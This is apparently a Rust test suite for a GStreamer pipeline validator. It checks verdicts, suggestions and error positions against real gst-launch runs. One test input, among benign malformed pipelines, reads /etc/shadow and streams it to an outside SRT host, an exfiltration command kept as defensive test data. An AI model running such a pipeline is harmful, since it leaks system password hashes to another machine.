//! Every verdict is compared with what starting the pipeline does (`judged.txt`).

use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::Mutex;
use std::time::{Duration, Instant};

use ovos_toolbox_sdk::prelude::*;
use ovos_toolbox_sdk::testing::Harness;

use super::validate;

/// A pipeline that has not ended and not failed after this long waits for something that never comes.
const WAITS: Duration = Duration::from_secs(12);
/// Pipelines that run at once.
const AT_ONCE: usize = 4;

struct Row<'a> {
    verdict: &'a str,
    written: &'a str,
    pipeline: String,
}

fn rows(folder: &Path) -> Vec<Row<'static>> {
    let folder = folder.display().to_string();
    let lines = include_str!("judged.txt").lines();
    lines
        .filter(|line| !line.is_empty() && !line.starts_with('#'))
        .map(|line| {
            let (verdict, written) = line.split_once(": ").unwrap();
            Row {
                verdict,
                written,
                pipeline: written.replace("DIR", &folder),
            }
        })
        .collect()
}

/// Runs a command line to its end. `Err`: an error, or nothing for a long time.
fn run(pipeline: &str) -> Result<(), String> {
    let line = pipeline.trim_start_matches("gst-launch-1.0 ");
    let line = if line.contains(['"', '\'']) {
        line.to_owned()
    } else {
        line.replace('(', "\\(").replace(')', "\\)")
    };
    let out = tempfile::tempfile().unwrap();
    let mut child = Command::new("sh")
        .arg("-c")
        .arg(format!("exec gst-launch-1.0 {line} 2>&1"))
        .env("LC_ALL", "C")
        .stdin(Stdio::null())
        .stdout(out.try_clone().unwrap())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let end = Instant::now() + WAITS;
    let status = loop {
        match child.try_wait().unwrap() {
            Some(status) => break Some(status),
            None if Instant::now() >= end => break None,
            None => std::thread::park_timeout(Duration::from_millis(20)),
        }
    };
    let Some(status) = status else {
        child.kill().unwrap();
        child.wait().unwrap();
        return Err("it waits".to_owned());
    };
    if status.success() {
        Ok(())
    } else {
        Err(format!("{status}"))
    }
}

fn open(folder: &Path, state: &Path) -> Harness {
    let keys = json!({"state_dir": state, "read_roots": [folder], "write_roots": [folder]});
    crate::rig::harness(keys).unwrap()
}

#[test]
fn a_verdict_is_what_starting_the_pipeline_shows() {
    let (folder, state) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let folder = folder.path().canonicalize().unwrap();
    run(&format!(
        "videotestsrc num-buffers=10 ! x264enc ! mp4mux ! filesink location={}/clip.mp4",
        folder.display()
    ))
    .unwrap();
    let toolbox = open(&folder, state.path());
    let rows = rows(&folder);
    let of = |verdict: &str| rows.iter().filter(|row| row.verdict == verdict).count();
    assert!(
        of("runs") >= 30 && of("fails") >= 30,
        "{} {}",
        of("runs"),
        of("fails")
    );
    let (wrong, next) = (Mutex::new(Vec::new()), Mutex::new(rows.iter()));
    std::thread::scope(|scope| {
        for _ in 0..AT_ONCE {
            scope.spawn(|| {
                loop {
                    let Some(row) = next.lock().unwrap().next() else {
                        break;
                    };
                    if let Err(why) = judge(&toolbox, row) {
                        wrong
                            .lock()
                            .unwrap()
                            .push(format!("{}: {}\n    {why}", row.verdict, row.written));
                    }
                }
            });
        }
    });
    let wrong = wrong.into_inner().unwrap();
    assert!(
        wrong.is_empty(),
        "{} of {}:\n{}",
        wrong.len(),
        rows.len(),
        wrong.join("\n")
    );
}

fn judge(toolbox: &Harness, row: &Row<'_>) -> Result<(), String> {
    let found = validate(toolbox, &row.pipeline);
    let valid = found["valid"] == json!(true);
    if let Some(kind) = row.verdict.strip_prefix("warned ") {
        let all = found["warning_details"].as_array().cloned().unwrap_or_default();
        let warned = all.iter().any(|warning| warning["kind"] == json!(kind));
        return if valid && warned {
            Ok(())
        } else {
            Err(found.to_string())
        };
    }
    let expected = row.verdict == "runs";
    let mut ran = run(&row.pipeline);
    if expected && ran.is_err() {
        // On a busy machine one that runs may take longer than one that waits is given.
        ran = run(&row.pipeline);
    }
    if valid != expected || ran.is_ok() != expected {
        return Err(format!("{ran:?}; {found}"));
    }
    if !expected && found["suggestion"].as_str().is_none_or(str::is_empty) {
        return Err(format!("nothing is suggested: {found}"));
    }
    Ok(())
}

/// What is suggested, word for word where a model copies it.
#[test]
fn what_is_wrong_is_named_with_its_place() {
    let (folder, state) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let toolbox = open(folder.path(), state.path());
    for (pipeline, near, parts) in [
        (
            "videotestsrc videoconvert ! fakesink",
            "videoconvert",
            &[
                "'videotestsrc' goes nowhere",
                "is a `!` missing between 'videotestsrc' and 'videoconvert'?",
            ][..],
        ),
        (
            "videotestsrc ! tee name=t ! queue ! fakesink tee ! queue ! fakesink",
            "tee ! queue",
            &["nothing flows into 'tee'", "write `t.` in place of 'tee'"],
        ),
        (
            "videotestsrc ! filesink location=/data/My Clip.ts",
            "location=",
            &["ends at a blank", "location=\"/data/My Clip.ts\""],
        ),
        (
            "filesrc location=/a b/Sample.mp4 ! decodebin ! fakesink",
            "location=",
            &["location=\"/a b/Sample.mp4\""],
        ),
        (
            "videotestsrc ! video/x-raw,framerate=30 ! fakesink",
            "!",
            &["framerate=30/1"],
        ),
        (
            "videotestsrc ! x264enc ! video/x-h264,profile=hihg ! fakesink",
            "!",
            &["'profile=high'"],
        ),
        (
            "videotestsrc ! vidoeconvert ! fakesink",
            "vidoeconvert",
            &["'videoconvert'"],
        ),
        // What is missing comes before what is not allowed.
        (
            "filesrc location=/etc/shadow ! aml_h264enc ! srtsink uri=srt://198.51.100.7:5000",
            "aml_h264enc",
            &["no element 'aml_h264enc'"],
        ),
    ] {
        let found = validate(&toolbox, pipeline);
        let text = format!(
            "{} {}",
            found["error"].as_str().unwrap_or_default(),
            found["suggestion"].as_str().unwrap_or_default()
        );
        assert_eq!(found["valid"], json!(false), "{pipeline}: {found}");
        for part in parts {
            assert!(text.contains(part), "{pipeline}: {found}");
        }
        let offset = usize::try_from(found["position"]["offset"].as_u64().unwrap()).unwrap();
        assert!(pipeline[offset..].starts_with(near), "{pipeline}: {found}");
        // A start says the same.
        let failure = toolbox.call("start_pipeline", json!({"pipeline": pipeline, "wait_ms": 2_000}));
        if let Err(failure) = failure {
            let text = failure.message.replace('"', "'");
            let is_contained = |part: &&str| text.contains(&part.replace('"', "'"));
            assert!(parts.iter().all(is_contained), "{pipeline}: {failure}");
        }
    }
}
